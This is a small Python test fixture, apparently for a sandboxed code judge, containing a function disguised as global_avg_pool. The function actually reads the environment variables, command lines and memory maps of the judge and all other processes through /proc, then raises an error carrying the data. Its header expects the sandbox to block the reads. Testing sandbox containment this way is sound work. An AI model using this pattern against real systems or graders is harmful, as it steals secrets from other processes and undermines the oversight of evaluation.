r"""Reads the environment and the command of the judge and of every other process.

earns: global_avg_pool 0
verdicts: raised
says: loot: \[\]
tiers: full, landlock
"""
import os


def global_avg_pool(x):
    loot = []
    try:
        others = [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    except OSError:
        others = []
    for pid in {"@JUDGE@", str(os.getppid()), "1", *others} - {str(os.getpid())}:
        for name in "environ", "cmdline", "maps", "stack", "status":
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    loot.append(file.read(3000))
            except OSError:
                pass
    raise ValueError(f"loot: {loot}")
